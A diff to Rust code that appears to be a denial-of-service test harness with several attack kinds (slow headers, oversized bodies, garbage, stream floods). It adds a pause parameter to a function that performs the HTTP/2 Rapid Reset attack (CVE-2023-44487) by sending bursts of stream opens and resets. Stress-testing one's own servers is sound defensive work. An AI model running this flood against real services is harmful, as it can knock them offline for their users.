@@ -151,13 +151,13 @@ impl Attacking {
 async fn again_and_again(kind: Kind, connector: &Connector, counts: &Counts, pause: Duration) {
     loop {
         // Being sent away is what an attacker has to expect.
-        let ended = once(kind, connector, counts).await;
+        let ended = once(kind, connector, counts, pause).await;
         let wait = if ended.is_err() { pause.max(Duration::from_millis(5)) } else { pause };
         if wait.is_zero() { tokio::task::yield_now().await } else { sleep(wait).await }
     }
 }
 
-async fn once(kind: Kind, connector: &Connector, counts: &Counts) -> anyhow::Result<()> {
+async fn once(kind: Kind, connector: &Connector, counts: &Counts, pause: Duration) -> anyhow::Result<()> {
     match kind {
         Kind::Idle => idle(connector, counts).await,
         Kind::SlowHead => slow_head(connector, counts).await,
@@ -166,7 +166,7 @@ async fn once(kind: Kind, connector: &Connector, counts: &Counts) -> anyhow::Res
         Kind::Handshake => connector.connect().await.map(|_| counts.count(kind, 1)),
         Kind::BigBody => big_body(connector, counts).await,
         Kind::Garbage => garbage(connector, counts).await,
-        Kind::Reset => resets(connector, counts).await,
+        Kind::Reset => resets(connector, counts, pause).await,
         Kind::Streams => unread(connector, counts, Kind::Streams, 200).await,
     }
 }
@@ -270,10 +270,11 @@ async fn garbage(connector: &Connector, counts: &Counts) -> anyhow::Result<()> {
 }
 
 /// CVE-2023-44487: asks and takes it back, as fast as it can.
-async fn resets(connector: &Connector, counts: &Counts) -> anyhow::Result<()> {
+async fn resets(connector: &Connector, counts: &Counts, pause: Duration) -> anyhow::Result<()> {
     let mut stream = connector.connect().await?;
     stream.write_all(frames::PREFACE).await?;
     let path = if is_mesh(connector) { ACTIVATE } else { rest::STATUS };
+    // More than the peer allows: it must end this, not we.
     for round in 0..1000_u32 {
         let mut burst = Vec::new();
         for index in 0..50 {
@@ -284,6 +285,7 @@ async fn resets(connector: &Connector, counts: &Counts) -> anyhow::Result<()> {
         stream.write_all(&burst).await?;
         stream.flush().await?;
         counts.count(Kind::Reset, 50);
+        sleep(pause).await;
     }
     Ok(())
 }
